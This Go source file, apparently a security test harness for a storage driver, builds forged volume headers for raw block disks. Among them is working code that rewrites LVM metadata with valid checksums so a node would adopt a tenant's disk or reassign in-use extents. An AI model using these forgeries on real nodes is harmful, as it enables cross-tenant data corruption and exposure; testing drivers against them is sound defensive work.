package attack

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"regexp"
)

// forgery is content that a tenant writes to the beginning of a raw block volume.
type forgery struct {
	name   string
	script string                       // prints the content, in a separate folder on the node
	change func([]byte) ([]byte, error) // nil, or what the attacker changes in it
	event  string                       // what an event on the claim calls it; "": it is nothing that a node acts on by itself
}

// lvm tells that LVM would take the volume for a physical volume.
func (f forgery) lvm() bool { return f.event == asLVM }

// What the events call the forgeries.
const (
	asLVM   = "an LVM physical volume"
	asBtrfs = "a btrfs file system"
	asMD    = "a member of an md array"
)

// withGroup prints the beginning of a disk with one volume group, made on a loop device that no other command reads.
const withGroup = `truncate -s 100M disk; loop=$(losetup -f --show disk)
pvcreate -qq --devices $loop $loop >&2; vgcreate -qq --devices $loop %s $loop >&2
losetup -d $loop; head -c 2M disk`

const (
	nodeDisks = "/dev/ubdb,/dev/ubdc" // of the node that is attacked
	nodeGroup = "vg-data"
)

// withDamage prints the beginning of a file system whose superblock is in order, with noise over so many blocks after it.
const withDamage = `truncate -s 320M disk; %s disk >&2; dd if=/dev/urandom of=disk bs=%d seek=1 count=%d conv=notrunc 2>/dev/null; head -c 2M disk`

// emptied is the forgery that would have the driver hand out extents that are in use.
var emptied = forgery{name: "the node's group, empty and with a higher sequence number", script: copied, change: emptyGroup, event: asLVM}

const copied = "head -c 2M /dev/ubdb"

// tagged is the forgery that a class would choose.
var tagged = forgery{name: "a volume group with the tag of the class", script: fmt.Sprintf(withGroup, "--addtag fast evil"), event: asLVM}

// forgeries are in an order in which each is reported again: the last of LVM is followed by btrfs, and that by md.
func forgeries() []forgery {
	return []forgery{
		{name: "a partition table with an LVM partition", script: `head -c 446 /dev/zero; printf '\000\000\002\000\216\000\000\000\000\010\000\000\000\000\003\000'; head -c 48 /dev/zero; printf '\125\252'; head -c 2M /dev/zero`},
		{name: "a LUKS header", script: `truncate -s 100M disk; echo key | cryptsetup luksFormat -q --type luks2 --pbkdf pbkdf2 --pbkdf-force-iterations 1000 disk - >&2; head -c 2M disk`},
		tagged,
		{name: "a volume group with the name of the node's own", script: tagged.script, change: namesake, event: asLVM},
		{name: "a copy of the node's disk", script: copied, event: asLVM},
		emptied,
		{name: "a btrfs file system", script: `truncate -s 120M disk; mkfs.btrfs -q -L victim disk >&2; head -c 2M disk`, event: asBtrfs},
		{name: "the beginning of an md array", script: `head -c 4096 /dev/zero; printf '\374\116\053\251\001\000\000\000'; head -c 1M /dev/urandom`, event: asMD},
		{name: "a btrfs file system with damaged structures", script: fmt.Sprintf(withDamage, "mkfs.btrfs -q", 68<<10, 20), event: asBtrfs},
		{name: "an xfs file system with damaged structures", script: fmt.Sprintf(withDamage, "mkfs.xfs -q", 512, 4000)},
		damagedExt4,
		{name: "random bytes", script: `head -c 2M /dev/urandom`},
	}
}

var damagedExt4 = forgery{name: "an ext4 file system with damaged structures", script: fmt.Sprintf(withDamage, "mkfs.ext4 -q", 2048, 1000)}

// Places and sums of LVM's on-disk format (LVM2, lib/format_text/layout.h): the metadata area header of a disk that pvcreate
// labelled with its defaults.
const (
	areaHeader   = 4096
	areaStart    = areaHeader + 24 // of the area on the disk
	areaLocation = areaHeader + 40 // offset and size of the current text, then its checksum
)

// lvmChecksum is CRC-32 without the final inversion, from LVM's own initial value.
func lvmChecksum(data []byte) uint32 {
	const initial = 0xf597a6cf
	return ^crc32.Update(^uint32(initial), crc32.IEEETable, data)
}

var seqno = regexp.MustCompile(`(?m)^seqno = \d+$`)

// emptyGroup takes the logical volumes out of a copied disk's group, and puts its sequence number far ahead.
func emptyGroup(disk []byte) ([]byte, error) {
	return rewriteMetadata(disk, func(text []byte) ([]byte, error) {
		if !seqno.Match(text) {
			return nil, errors.New("the metadata text has no sequence number")
		}
		return cutSection(seqno.ReplaceAll(text, []byte("seqno = 99999")), "\nlogical_volumes {"), nil
	})
}

// namesake gives the group the name of the node's own. LVM's commands refuse to make two groups of one name.
func namesake(disk []byte) ([]byte, error) {
	return rewriteMetadata(disk, func(text []byte) ([]byte, error) {
		rest, found := bytes.CutPrefix(text, []byte("evil {"))
		if !found {
			return nil, fmt.Errorf("the metadata text begins with %q", text[:min(len(text), 20)])
		}
		return append([]byte(nodeGroup+" {"), rest...), nil
	})
}

// rewriteMetadata puts another text into the metadata area of a disk, with the right checksums.
func rewriteMetadata(disk []byte, change func(text []byte) ([]byte, error)) ([]byte, error) {
	disk = bytes.Clone(disk)
	start := binary.LittleEndian.Uint64(disk[areaStart:])
	offset, size := binary.LittleEndian.Uint64(disk[areaLocation:]), binary.LittleEndian.Uint64(disk[areaLocation+8:])
	if start != areaHeader || start+offset+size > uint64(len(disk)) {
		return nil, fmt.Errorf("the metadata area begins at byte %d, its text at %d, with %d bytes", start, offset, size)
	}
	text := disk[start+offset:][:size]
	if lvmChecksum(text) != binary.LittleEndian.Uint32(disk[areaLocation+16:]) {
		return nil, errors.New("the checksum of the metadata text is wrong")
	}
	forged, err := change(text)
	if err != nil {
		return nil, err
	}
	const place = 512 << 10 // in the second half of the area, which the group has not come to
	if place+len(forged) > 1<<20-areaHeader {
		return nil, fmt.Errorf("the forged text has %d bytes", len(forged))
	}
	copy(disk[areaHeader+place:], forged)
	binary.LittleEndian.PutUint64(disk[areaLocation:], place)
	binary.LittleEndian.PutUint64(disk[areaLocation+8:], uint64(len(forged)))
	binary.LittleEndian.PutUint32(disk[areaLocation+16:], lvmChecksum(forged))
	binary.LittleEndian.PutUint32(disk[areaHeader:], lvmChecksum(disk[areaHeader+4:areaHeader+512]))
	return disk, nil
}

// cutSection removes the section that begins with the given words, up to its own closing brace.
func cutSection(text []byte, begin string) []byte {
	from := bytes.Index(text, []byte(begin))
	if from < 0 {
		return text
	}
	depth := 0
	for i := from; i < len(text); i++ {
		switch text[i] {
		case '{':
			depth++
		case '}':
			if depth--; depth == 0 {
				return append(bytes.Clone(text[:from]), text[i+1:]...)
			}
		}
	}
	return text
}
